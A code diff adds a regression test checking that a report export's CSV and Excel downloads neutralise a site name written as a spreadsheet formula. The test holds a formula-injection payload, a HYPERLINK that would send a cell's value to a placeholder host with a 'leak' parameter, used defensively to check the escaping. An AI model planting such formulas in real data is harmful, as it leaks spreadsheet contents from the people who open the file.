@@ -276,6 +276,28 @@ def test_downloads_read_back_and_agree(world: World) -> None:
     assert sum(int(line["Deposits"] or 0) for line in lines[1:]) == 44
 
 
+def test_downloads_keep_a_name_that_looks_like_a_formula_a_name(world: World) -> None:
+    """A site named like a formula in the fleet file is a name in the grid official's Excel,
+    never run: the CSV puts a `'` before it, the .xlsx stores it as text."""
+    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
+    engine = make_engine(world.settings.database_url)
+    with Session(engine) as session:
+        session.execute(update(Site).where(Site.id == world.site_a).values(name=formula))
+        session.commit()
+    engine.dispose()
+    grid, base = world.client(GRID), f"/console/reports/areas/{AREA}"
+    answer = grid.get(f"{base}/csv", params={"month": world.month})
+    assert answer.status_code == 200
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+    names = [row[rows[0].index("名称")] for row in rows[1:]]
+    assert "'" + formula in names and formula not in names
+    sheet = load_workbook(io.BytesIO(grid.get(f"{base}/xlsx", params={"month": world.month})
+                                     .content)).active  # fmt: skip
+    assert sheet is not None
+    (cell,) = [c for c in sheet["E"] if c.value == formula]
+    assert cell.data_type == "s"  # text, not a formula ("f")
+
+
 def _cell(value: object) -> object:
     """A cell as a comparable value: a number whether written "0.0" in CSV or 0 in the sheet."""
     text = "" if value is None else str(value)
